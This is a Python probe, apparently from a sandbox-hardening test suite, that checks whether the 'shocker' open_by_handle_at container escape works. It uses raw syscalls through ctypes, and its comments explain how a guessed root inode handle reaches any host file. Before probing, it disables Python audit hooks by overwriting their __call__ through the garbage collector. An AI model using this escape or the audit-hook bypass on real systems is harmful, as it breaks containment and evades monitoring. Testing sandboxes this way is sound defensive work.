# open_by_handle_at (the "shocker" container escape): opens a file from a file handle, with no
# path lookup, so no folder on the way is checked; with a guessed handle (inode 2, the file
# system's root) it reaches any file of the file system. Here: the handle of a file it may read
# (os.py), which proves the CAP_DAC_READ_SEARCH this needs. Escaped: the open succeeded.
def open_by_handle(**_):
    import os
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:  # the audit hook held, or there is no ctypes
        return {"escaped": False, "detail": f"no ctypes: {exc!r}"}
    libc.syscall.restype = ctypes.c_long

    def sys_call(nr, *args):  # (result, errno)
        ctypes.set_errno(0)
        res = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return res, (ctypes.get_errno() if res < 0 else 0)

    class Handle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]

    handle, mount_id = Handle(128), ctypes.c_int()
    res, err = sys_call(303, -100, os.__file__.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0)
    if res < 0:  # name_to_handle_at
        return {"escaped": False, "detail": f"name_to_handle_at refused: {os.strerror(err)}"}
    mount_fd = os.open(os.path.dirname(os.__file__), os.O_RDONLY | os.O_DIRECTORY)
    fd, err = sys_call(304, mount_fd, ctypes.byref(handle), os.O_RDONLY)  # open_by_handle_at
    os.close(mount_fd)
    if fd < 0:
        return {"escaped": False, "detail": f"open_by_handle_at refused: {os.strerror(err)}"}
    head = os.read(fd, 20)
    os.close(fd)
    return {"escaped": True, "detail": f"opened os.py by its handle: {head!r}"}


LAYERS = ("seccomp", "caps")
NEEDS_ROOT = True
